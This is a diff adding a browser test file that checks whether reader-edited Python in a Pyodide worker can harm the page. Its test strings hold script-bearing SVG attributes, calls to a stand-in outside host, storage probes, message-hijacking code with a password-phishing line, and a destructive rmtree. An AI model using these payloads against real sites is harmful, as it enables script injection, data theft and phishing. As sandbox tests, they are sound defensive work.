@@ -1,0 +1,255 @@
+"""In Chromium, Firefox and WebKit: a version that a reader edits, or was given, can hurt nobody."""
+
+import pytest
+from pages_server import PagesServer
+from served_site import served
+from visit import Visit
+
+OWN = '''
+"""How far?"""
+
+import numpy as np
+
+from explorable import Slider, figure
+
+
+@figure(n=Slider(0, 9, start=2), table=False, limit=8.0)
+def calm(ax, n):
+    ax.plot(np.arange(n + 1) ** 2)
+    return {"last": n**2, "note": "fine"}
+'''
+FILES = {
+    "widgets__odd_py": OWN,
+    "content__index_md": "# Odd\n\n/// figure | odd.calm\n///\n\nIt is [[calm.note]].\n",
+}
+# What Python can do to the worker that it runs in.
+FORGES = """
+import json
+from explorable.worker import session
+
+def forged(self, picture, name, state, layout):
+    yield session.Answer(560, 315, json.dumps(NODES), json.dumps(STRINGS), np.array(NUMBERS),
+                         "{}", "Forged.")
+
+session.FigureSession.answers = forged
+"""
+SCRIPTS = """
+NODES = [
+    {"kind": "path", "commands": "M L1", "attributes": {
+        "onclick": "window.hurt = 1", "onmouseover": "window.hurt = 1", "style": "color: red",
+        "stroke": "red", "fill": "url(OTHER/paint.svg#a)", "class": "ex-status"}},
+    {"kind": "image", "attributes": {"href": "OTHER/attribute.png"}},
+]
+STRINGS = ["OTHER/image.png"]
+NUMBERS = [10.0, 10.0, 200.0, 200.0, 10.0, 10.0, 50.0, 50.0]
+"""
+ENDLESS_PATH = """
+NODES = [{"kind": "path", "commands": "M L99999999999", "attributes": {}}]
+STRINGS, NUMBERS = [], [1.0, 2.0]
+"""
+STRANGE_PARTS = """
+NODES = [{"kind": "script", "attributes": {}}, {"kind": "text", "attributes": {"fill": {}}}]
+STRINGS, NUMBERS = ["window.hurt = 1"], [1.0, 2.0, 0.0]
+"""
+REACHES = """
+import js
+from pyodide.ffi import to_js
+
+js.fetch("OTHER/fetched", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))
+for reach in (
+    lambda: js.caches.open("stolen"),
+    lambda: js.indexedDB.open("stolen"),
+    lambda: js.navigator.storage.getDirectory(),
+    lambda: js.importScripts("OTHER/imported.js"),
+    lambda: js.WebSocket.new("OTHER/socket".replace("http", "ws")),
+    lambda: js.Worker.new("OTHER/worker.js"),
+    lambda: js.BroadcastChannel.new("everyone").postMessage("stolen"),
+    lambda: asked("OTHER/asked"),
+):
+    try:
+        reach()
+    except Exception:
+        pass
+
+def asked(address):
+    request = js.XMLHttpRequest.new()
+    request.open("GET", address, False)
+    request.send()
+"""
+HANDS_OVER = """
+import js
+from pyodide.ffi import create_proxy, to_js
+
+def spying(owner):
+    said = owner.prototype.postMessage
+    def post(this, message, *more):
+        told = lambda **what: said.call(this, to_js(what, dict_converter=js.Object.fromEntries))
+        forge(told)
+        said.call(this, message, *more)
+    owner.prototype.postMessage = create_proxy(post, capture_this=True)
+"""
+FLOOD = """
+def forge(told):
+    for id in range(100_000):
+        told(kind="heard", id=id)
+
+spying(js.MessagePort)
+"""
+STRANGE_WORDS = """
+def forge(told):
+    told(kind="failed", id=1, sentence="Send your password to us.", detail="no", lost=False)
+    told(kind="failed", id=2, sentence="Send your password to us.", detail="no", lost=False)
+    told(kind="broken", sentence="Send your password to us.", detail="no")
+    told(kind="unheard of")
+    told(id=1)
+
+spying(js.MessagePort)
+"""
+FOREIGN_FILES = """
+def forge(told):
+    told(kind="fetch", id=10_000, address="OTHER/handed")
+    told(kind="fetch", id=10_001, address="SITE/")
+
+spying(js.MessagePort)
+"""
+EDITING = "() => document.activeElement.matches('#calm-code .cm-content')"
+PASTE = """(text) => {
+  document.querySelector("#calm-code .cm-content").focus();
+  document.execCommand("selectAll");
+  document.execCommand("insertText", false, text);
+}"""
+SAID = "(words) => document.querySelector('#calm-code .ex-panel-said').textContent.includes(words)"
+TEXT = "() => document.querySelector('#calm').textContent"
+STATUS = "(words) => document.querySelector('#calm .ex-status').textContent.includes(words)"
+PARTS = """() => [...document.querySelectorAll("#calm svg.ex-picture *")].flatMap((one) =>
+  [...one.attributes].map(({ name, value }) => `${one.tagName} ${name}=${value}`))"""
+HURT = """async () => ({
+  hurt: window.hurt ?? null,
+  heard: window.heard ?? null,
+  caches: await globalThis.caches?.keys(),
+  databases: await globalThis.indexedDB?.databases?.().then((all) => all.map(({ name }) => name)),
+})"""
+LISTEN = """() => {
+  new BroadcastChannel("everyone").onmessage = ({ data }) => (window.heard = data);
+}"""
+UNHURT = {"hurt": None, "heard": None, "caches": [], "databases": []}
+ANSWERED = "Your version answered."
+LOST = "broke off"
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    with served(tmp_path_factory.mktemp("odd"), options={"offline": False}, **FILES) as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def other(tmp_path_factory):
+    """Another server, which the site has nothing to do with."""
+    with PagesServer(tmp_path_factory.mktemp("other")) as server:
+        yield server
+
+
+@pytest.fixture
+def editor(engine, site, other):
+    """A reader who has the editor open."""
+    with engine.reader() as reader:
+        visit = Visit(reader, site)
+        visit.open()
+        reader.evaluate(LISTEN)
+        visit.panel("calm", "code")
+        visit.press("calm", "Edit")
+        reader.wait_until(EDITING)
+        yield visit
+        check = reader.evaluate(HURT)
+        assert {**UNHURT, **{key: value for key, value in check.items() if value}} == UNHURT
+        assert other.asked == []
+
+
+@pytest.fixture
+def run(editor, site, other):
+    """Run a version of the source."""
+
+    def run(*parts):
+        text = "\n".join([*parts, OWN])
+        text = text.replace("OTHER", other.address.rstrip("/")).replace("SITE", site.origin)
+        editor.reader.evaluate(PASTE, "import numpy as np\n" + text)
+        editor.press("calm", "Run")
+
+    return run
+
+
+def goes_on(editor, run):
+    """Another version answers, and then the author's own."""
+    run("# another one")
+    editor.reader.wait_until(SAID, ANSWERED)
+    editor.wait_for("calm", "edited")
+    editor.press("calm", "Reset")
+    editor.set("calm", n=3)
+    editor.wait_for("calm")
+
+
+def test_a_forged_picture_brings_no_script_and_asks_nobody(editor, run):
+    run(SCRIPTS, FORGES)
+    editor.reader.wait_until(SAID, ANSWERED)
+    parts = editor.reader.evaluate(PARTS)
+    assert "path stroke=red" in parts
+    wrong = ("=window", " on", "http", " style=", " class=ex-status")
+    assert [part for part in parts for each in wrong if each in part] == []
+    goes_on(editor, run)
+
+
+@pytest.mark.parametrize("parts", [ENDLESS_PATH, STRANGE_PARTS], ids=["endless", "strange"])
+def test_a_picture_of_strange_parts_is_not_shown(editor, run, parts):
+    run(parts, FORGES)
+    editor.reader.wait_until(SAID, LOST)
+    goes_on(editor, run)
+
+
+def test_neither_storage_nor_network_nor_other_tabs_are_in_reach(editor, run):
+    run(REACHES)
+    editor.reader.wait_until(SAID, ANSWERED)
+    goes_on(editor, run)
+
+
+def test_files_are_handed_over_only_from_where_python_is(editor, run):
+    run(HANDS_OVER, FOREIGN_FILES)
+    editor.reader.wait_until(SAID, ANSWERED)
+    assert "" not in editor.server.asked[-5:]
+    goes_on(editor, run)
+
+
+def test_a_flood_of_messages_is_cut(editor, run):
+    run(HANDS_OVER, FLOOD)
+    editor.reader.wait_until(SAID, LOST)
+    goes_on(editor, run)
+
+
+def test_only_our_own_sentences_are_said(editor, run):
+    run(HANDS_OVER, STRANGE_WORDS)
+    editor.reader.wait_until("() => !document.querySelector('#calm').ariaBusy")
+    editor.reader.wait_until("() => document.querySelector('#calm').getAttribute('answers')")
+    assert "password" not in editor.reader.evaluate(
+        "() => document.querySelector('#calm .ex-live').textContent"
+    )
+    goes_on(editor, run)
+
+
+@pytest.mark.parametrize(
+    "spoils",
+    ["import shutil\nshutil.rmtree('/lib')", "np.arange = None", "import js\njs.fetch = None"],
+)
+def test_a_spoilt_python_is_not_the_next_versions(editor, run, spoils):
+    run(spoils, "raise ValueError('spoilt')")
+    editor.reader.wait_until(SAID, "spoilt")
+    goes_on(editor, run)
+
+
+@pytest.mark.parametrize("place", ["import js\njs.close()", "CLOSED"])
+def test_a_worker_that_ends_itself_can_be_stopped(editor, run, place):
+    closes = OWN.replace("    return {", "    import js\n    js.close()\n    return {")
+    run(closes if place == "CLOSED" else place)
+    editor.reader.wait_until(STATUS, "Stop")
+    editor.press("calm", "Stop")
+    editor.reader.wait_until(STATUS, "Stopped")
+    goes_on(editor, run)
